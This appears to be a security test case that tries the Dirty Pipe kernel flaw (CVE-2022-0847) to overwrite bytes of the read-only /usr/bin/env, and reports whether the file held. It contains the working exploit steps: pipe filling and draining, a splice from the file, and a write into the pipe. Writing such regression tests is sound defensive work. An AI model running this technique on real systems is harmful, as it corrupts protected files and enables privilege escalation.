# tries: to overwrite a read-only file by way of a pipe's spliced pages (CVE-2022-0847)
# expect: held
path = "/usr/bin/env"
before = open(path, "rb").read(64)
reader, writer = os.pipe()
for _ in range(16):
    os.write(writer, b"x" * 4096)
for _ in range(16):
    os.read(reader, 4096)
at = os.open(path, os.O_RDONLY)
os.splice(at, writer, 1, offset_src=3) if hasattr(os, "splice") else libc.splice(at, ctypes.byref(ctypes.c_int64(3)), writer, None, 1, 0)
os.write(writer, b"EGG")
print("BREACH: the file has changed" if open(path, "rb").read(64) != before else "held: a write to the pipe left the file alone")
